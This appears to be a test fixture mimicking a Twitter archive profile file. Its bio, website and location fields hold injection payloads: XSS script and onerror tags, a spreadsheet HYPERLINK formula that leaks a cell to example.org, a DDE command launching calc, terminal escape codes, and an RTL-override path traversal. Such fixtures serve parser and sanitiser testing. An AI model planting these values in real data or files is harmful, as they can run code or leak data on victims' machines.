window.YTD.profile.part0 = [
  {
    "profile" : {
      "description" : {
        "bio" : "<script>alert('harbour')</script></script><img src=x onerror=alert(1)><b>bold</b> & <i>sly</i> &amp; &#60;u&#62;=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")+1+cmd|' /C calc'!A0-1+2@SUM(A1:A9)\t=1+1\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
        "website" : "https://example.org/\"><script>alert(1)</script>",
        "location" : "‮../.."
      },
      "avatarMediaUrl" : "https://pbs.twimg.com/profile_images/1170849295368603285/Kx0lamp1.jpg",
      "headerMediaUrl" : "https://pbs.twimg.com/profile_banners/1170849295368603285/1546300800"
    }
  }
]